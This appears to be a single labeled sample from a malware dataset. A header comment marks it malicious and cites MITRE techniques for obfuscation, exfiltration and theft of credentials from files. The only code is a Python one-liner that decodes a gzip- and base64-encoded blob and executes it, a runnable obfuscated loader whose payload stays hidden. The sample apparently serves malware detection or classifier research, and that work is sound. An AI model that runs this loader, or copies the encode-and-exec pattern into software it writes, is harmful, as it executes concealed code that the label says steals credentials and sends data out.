# label: malicious family=encoded techniques=T1027,T1041,T1059.006,T1140,T1552.001 lines=2
import gzip,base64;exec(gzip.decompress(base64.b64decode("H4sIAAAAAAACAzXJQQqAIBAAwK+EJwVb70WPMV3QUNfcLXp+XboNTK6dhkzEduB5IQuvP6ATi1ZJpPPiXKBSMAjsPs7pG8DH117QobIHU9tiDqKJAdudBzVjXk1ViwpcAAAA")).decode())
